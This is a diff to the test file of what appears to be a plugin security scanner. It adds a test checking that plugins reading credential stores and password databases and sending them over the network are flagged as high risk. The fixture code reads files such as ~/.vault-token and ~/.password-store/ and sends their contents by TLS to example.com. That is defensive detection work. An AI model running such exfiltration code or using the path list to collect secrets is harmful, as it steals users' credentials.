@@ -81,6 +81,34 @@ test('secrets read in one file and the network reached in another are high toget
 	assert.equal(alone.findings.filter((f) => f.ruleId === 'secrets-and-network').length, 0);
 });
 
+test('service tokens and desktop password stores are secrets, and with the network high', async () => {
+	for (const place of [
+		'/.config/gh/hosts.yml',
+		'~/.config/hub',
+		'~/.vault-token',
+		'~/.config/rclone/rclone.conf',
+		'~/.local/share/keyrings/login.keyring',
+		'~/.password-store/',
+		'~/.cargo/credentials.toml',
+		'~/.purple/accounts.xml',
+	]) {
+		const report = await scan(
+			plugin({
+				'MANIFEST.toml': MANIFEST('[capabilities]\nnetwork = true\nfilesystem_read = true\n'),
+				'index.js': `const fs = require('fs');\nconst os = require('os');\nconst tls = require('tls');\nexports.go = () => tls.connect(443, 'example.com', {}, () => 0).end(fs.readFileSync(os.homedir() + '${place}'));\n`,
+			}),
+		);
+		assert.ok(high(report).includes('secrets-and-network'), `${place}: ${high(report).join()}`);
+	}
+	const honest = await scan(
+		plugin({
+			'MANIFEST.toml': MANIFEST('[capabilities]\nnetwork = true\nfilesystem_read = true\n'),
+			'index.js': `const fs = require('fs');\nconst tls = require('tls');\nexports.go = () => tls.connect(443, 'example.com', {}, () => 0).end(fs.readFileSync('/etc/hosts'));\n`,
+		}),
+	);
+	assert.deepEqual(high(honest), []);
+});
+
 test('secrets sent through the host’s own web service are still secrets with network', async () => {
 	const report = await scan(
 		plugin({
